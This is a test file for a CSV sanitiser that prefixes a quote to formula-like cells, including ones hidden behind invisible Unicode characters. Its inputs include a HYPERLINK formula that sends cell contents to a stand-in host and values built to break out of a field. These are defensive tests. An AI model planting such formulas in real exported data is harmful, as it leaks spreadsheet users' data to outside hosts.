import { expect, it } from 'vitest'
import { withoutFormulas } from './spreadsheet.ts'

/** Blanks, breaks, marks of direction and order, joiners, a soft hyphen, fillers, a tag. */
const UNSEEN = [
  ...[' ', '  \t', '\u00a0', '\u3000', '\u2028', '\v', '\u0001', '\u0085', '\u200f', '\u061c', '\ufeff', '\u180e'],
  ...[' \u200b\u2060 ', '\u00ad', '\u115f', '\u3164', '\ufe0f', '\u{e0020}'],
]

it.each([
  ['=HYPERLINK(""http://a/?""&A1)', `'=HYPERLINK(""http://a/?""&A1)`],
  ['+1', "'+1"],
  ['-30-', "'-30-"],
  ['@a', "'@a"],
  ['\t=1', "'\t=1"],
  ['\n=1', "'\n=1"],
  ['＝1', "'＝1"],
  ...UNSEEN.flatMap((unseen) => ['=1+1', '+1', '-1', '@a', '＝1'].map((formula) => unseen + formula)).map(
    (text): [string, string] => [text, `'${text}`],
  ),
  [' a=1', ' a=1'],
  ['\u200f', '\u200f'],
  ['a=1', 'a=1'],
  ['', ''],
  ["'71", "'71"],
  // Looks like the end of one field and the beginning of another.
  ['a"",""=1', 'a"",""=1'],
  ['a\n""=1', 'a\n""=1'],
])('gives %j to spreadsheets as text', (text, given) => {
  expect(withoutFormulas(`"id","title"\n-1,"${text}",-2.5,\\N\n"${text}",1\n`)).toBe(
    `"id","title"\n-1,"${given}",-2.5,\\N\n"${given}",1\n`,
  )
})
